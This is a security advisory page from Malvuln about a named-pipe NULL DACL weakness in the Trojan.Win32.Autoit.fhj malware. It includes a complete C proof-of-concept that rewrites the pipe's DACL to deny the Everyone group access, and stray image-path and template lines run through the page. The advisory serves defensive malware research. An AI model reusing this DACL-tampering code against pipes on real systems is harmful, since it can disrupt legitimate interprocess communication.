Trojan.Win32.Autoit.fhj / Named Pipe Null DACL

us malvuln (US) us
Risk: Low
Local: Yes
Remote: No

Discovery / credits: Malvuln (John Page aka hyp3rlinx) (c) 2022 Original source: Contact: Media: Threat: Trojan.Win32.Autoit.fhj Vulnerability: Named Pipe Null DACL Family: Autoit Type: PE32 MD5: d871836f77076eeed87eb0078c1911c7 Vuln ID: MVID-2022-0638 Disclosure: 09/06/2022 Description: The malware creates two processes "xservice.exe" and a child process "xps.exe". The process creates an IPC pipe with a NULL DACL allowing RW for the Everyone user group. RManFUSCallbackNotify32 RManFUSServerNotify32 \\.\Pipe\RManFUSCallbackNotify32 RW Everyone Local low privileged users can modify the DACL to remove rights for the Everyone users group, denying access to use the pipe for further RW interprocess communications. Exploit/PoC: #include "windows.h" #include "stdio.h" #include "accctrl.h" #include "aclapi.h" /* Trojan.Win32.Autoit.fhj.d871836f77076eeed87eb0078c1911c7 NamedPipe Exploit Deny Access to Everyone By Malvuln **/ #define VULN_TROJAN_PIPE "\\\\.\\pipe\\RManFUSCallbackNotify32" int main(void){ HANDLE hPipe = CreateFileA((LPCSTR)VULN_TROJAN_PIPE, GENERIC_WRITE | WRITE_DAC, 0, NULL, OPEN_EXISTING, NULL, NULL); PACL pOldDACL = NULL; PACL pNewDACL = NULL; if (hPipe == INVALID_HANDLE_VALUE){ printf("%d", GetLastError()); return 1; } if(GetSecurityInfo(hPipe, SE_KERNEL_OBJECT, DACL_SECURITY_INFORMATION, NULL, NULL, &pOldDACL, NULL, NULL) != ERROR_SUCCESS){printf("%d", GetLastError()); return 1; } TRUSTEE trustee[1];trustee[0].TrusteeForm = TRUSTEE_IS_NAME; trustee[0].TrusteeType = TRUSTEE_IS_GROUP; trustee[0].ptstrName = TEXT("Everyone"); trustee[0].MultipleTrusteeOperation = NO_MULTIPLE_TRUSTEE; trustee[0].pMultipleTrustee = NULL; EXPLICIT_ACCESS explicit_access_list[1]; ZeroMemory(&explicit_access_list[0], sizeof(EXPLICIT_ACCESS)); explicit_access_list[0].grfAccessMode = DENY_ACCESS; explicit_access_list[0].grfAccessPermissions = GENERIC_ALL; explicit_access_list[0].grfInheritance = NO_INHERITANCE; explicit_access_list[0].Trustee = trustee[0]; if(SetEntriesInAcl(1, explicit_access_list, pOldDACL, &pNewDACL) != ERROR_SUCCESS){ printf("%d", GetLastError()); return 1; } if(SetSecurityInfo(hPipe, SE_KERNEL_OBJECT, DACL_SECURITY_INFORMATION, NULL, NULL, pNewDACL, NULL) != ERROR_SUCCESS){ printf("%d", GetLastError()); return 1; }else{ printf("Trojan.Win32.Autoit.fhj PWNED!\n"); printf("By Malvuln\n"); } LocalFree(pNewDACL); LocalFree(pOldDACL); CloseHandle(hPipe); system("pause"); return 0; } Disclaimer: The information contained within this advisory is supplied "as-is" with no warranties or guarantees of fitness of use or otherwise. Permission is hereby granted for the redistribution of this advisory, provided that it is not altered except by reformatting it, and that due credit is given. Permission is explicitly given for insertion in vulnerability databases and similar, provided that due credit is given to the author. The author is not responsible for any misuse of the information contained herein and accepts no responsibility for any damage caused by the use ormisuse of this information. The author prohibits any malicious use of security related information or exploits by the author or elsewhere. Do not attempt to download Malware samples. The author of this website takes no responsibility for any kind of damages occurring from improper Malware handling or the downloading of ANY Malware mentioned on this website or elsewhere. All content Copyright (c) (TM).

Vote for this issue:


Thanks for you vote!


Thanks for you comment!
Your message is in quarantine 48 hours.

Comment it here.

(*) - required fields.
{{ x.nick }} | Date: {{ x.ux * 1000 | date:'yyyy-MM-dd' }} {{ x.ux * 1000 | date:'HH:mm' }} CET+1
{{x.comment }}

Copyright 2022,


Back to Top